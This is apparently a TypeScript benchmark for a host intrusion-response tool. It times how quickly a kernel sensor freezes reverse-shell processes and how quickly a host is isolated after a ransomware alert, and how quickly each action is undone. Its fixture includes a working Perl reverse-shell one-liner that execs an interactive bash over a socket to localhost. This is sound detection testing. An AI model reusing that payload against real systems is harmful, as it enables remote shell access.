/** From a program that starts to its tree that stands still, from an alert to a machine that is cut off, and back: under the real kernel sensor, and in a network namespace. */
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Receipt } from '../src/core/action.ts';
import type { Alert } from '../src/core/alert.ts';
import { askControl } from '../src/agent/control.ts';
import { Responder } from '../src/engine/response/responder.ts';
import { openResponse } from '../test/actions.ts';
import { lacksKernel, startWatch } from '../test/live/kernel.ts';
import type { Net } from '../test/namespaces.ts';
import { measureActions, measureWorld, net as network } from '../test/scenes/measure-world.ts';

const shells = 20, isolations = 10;
const mostMs = 5000;

/** All in ms. `frozen`: from just before exec to the state T; `thawed`: from asking to going on. */
export interface Frozen { frozen: number[]; thawed: number[]; of: number }

/** Becomes an interactive shell whose input and output is a connection, as reverse shells do; says when, just before. */
const becomeShell = `use IO::Socket::INET; use Time::HiRes; my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $ARGV[0]) or die; open(my $said, '>&', \\*STDOUT); select($said); $| = 1;
open(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s); printf $said "%.3f\\n", Time::HiRes::time() * 1000; exec '/bin/bash', '-i';`;

const stateOf = (pid: number): string => {
  try {
    return / ([A-Za-z]) /.exec(readFileSync(`/proc/${pid}/stat`, 'latin1').replace(/^.*\)/s, ''))?.[1] ?? '';
  } catch { return ''; /* it has ended */ }
};

async function until(is: () => boolean): Promise<number | undefined> {
  for (const end = Date.now() + mostMs; Date.now() < end; await sleep(1)) if (is()) return Date.now();
  return undefined;
}

/** Undefined where the kernel sensor cannot run. Nothing else of this machine is answered: the mode is guard for this rule alone, and its firewall stays as it is. */
export async function freezeShells(): Promise<Frozen | undefined> {
  if (await lacksKernel()) return undefined;
  const watch = await startWatch({ behaviours: ['reverse-shell'], yaml: 'response: { mode: observe, firewall: off, overrides: [{ rule: behaviour.reverse-shell, mode: guard }] }' });
  const server = createServer((socket) => { socket.on('error', () => socket.destroy()); });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const data = join(watch.folder, 'data');
  const found: Frozen = { frozen: [], thawed: [], of: shells };
  try {
    for (let i = 0; i < shells; i++) {
      const shell = spawn('/usr/bin/perl', ['-e', becomeShell, String((server.address() as AddressInfo).port)], { stdio: ['ignore', 'pipe', 'ignore'], detached: true });
      const pid = shell.pid ?? 0;
      let began = 0;
      shell.stdout.on('data', (chunk: Buffer) => { began ||= Number(chunk.toString()); });
      try {
        const stood = await until(() => began > 0 && stateOf(pid) === 'T');
        if (stood === undefined) continue;
        found.frozen.push(stood - began);
        // The state is seen before the receipt is written.
        let receipt: Receipt | undefined;
        for (let tries = 0; tries < 100 && receipt?.status !== 'applied'; tries++) {
          if (tries > 0) await sleep(20);
          receipt = (await askControl(data, 'actions', { limit: 50 }) as Receipt[]).find((one) => one.target === `pid ${pid}`);
        }
        if (receipt?.status !== 'applied') continue;
        const asked = Date.now();
        await askControl(data, 'undo', { id: receipt.id, by: 'operator:bench', why: 'measured' });
        if (stateOf(pid) !== 'T') found.thawed.push(Date.now() - asked);
      } finally {
        const ended = new Promise((resolve) => { shell.once('exit', resolve); });
        shell.kill('SIGKILL');
        await ended;
      }
    }
    return found;
  } finally {
    server.close();
    await watch.end();
  }
}

/** `cut`: from the alert to the last datagram that came through; `verified`: to the receipt; `back`: from asking to the receipt, with traffic flowing. */
export interface Isolated { cut: number[]; verified: number[]; back: number[] }

/** `probe`: tells when the last answered datagram from this address was sent (Unix ms, 0 when it goes on), once `begun`. */
export async function isolate(net: Net, addressOf: (round: number) => string, probe: (address: string) => Promise<{ last: Promise<number> }>): Promise<Isolated> {
  const folder = mkdtempSync(join(tmpdir(), 'moat-isolate-bench-'));
  const { wall, world } = await measureWorld(net.host, { management: { from: [network('192.0.2.9')], ports: [22] } });
  const response = openResponse(folder, (parts) => measureActions(world(parts)));
  const log = { debug: () => undefined, info: () => undefined, warn: () => undefined };
  const link = { id: 'isolate', title: { zh: '隔离', en: 'Isolate' }, when: { rules: ['behaviour.mass-change'], level: 'critical' as const }, action: 'isolate-host', input: { why: { value: 'measured' } }, mode: 'strict' as const };
  // One for each round: it would remember that the machine was isolated a moment ago.
  const newResponder = (): Responder => new Responder({ runner: response.runner, store: response.store.response, log, now: Date.now, count: () => undefined, pausedUntil: () => 0 }, { mode: 'strict', overrides: [], links: [link], ban: { first: 1, factor: 1, most: 1 } });
  const alertOf = (i: number): Alert => ({ id: `i${i}`, time: Date.now(), last_time: Date.now(), level: 'critical', rule_id: 'behaviour.mass-change', rule_name: 'encryption', title: { zh: '加密', en: 'encryption' }, host: 'web1', summary: 'files are encrypted', count: 1, attack: ['T1486'], matrix: [], key: String(i), status: 'open', evidence: [] });
  const found: Isolated = { cut: [], verified: [], back: [] };
  try {
    for (let i = 0; i < isolations; i++) {
      const { last } = await probe(addressOf(i));
      await sleep(100);
      const responder = newResponder();
      const began = Date.now();
      responder.onAlerts([alertOf(i)]);
      await responder.settled();
      const [receipt] = response.store.response.receipts({ action: 'isolate-host', status: ['applied'], limit: 1 });
      const done = Date.now();
      const at = await last;
      if (receipt === undefined || at === 0) continue;
      found.verified.push(done - began);
      found.cut.push(Math.max(0, at - began));
      const asked = Date.now();
      await response.runner.undo(receipt.id, { by: 'operator:bench', via: 'bench', why: 'measured' });
      found.back.push(Date.now() - asked);
    }
    return found;
  } finally {
    await response.close();
    wall.close();
    rmSync(folder, { recursive: true });
  }
}
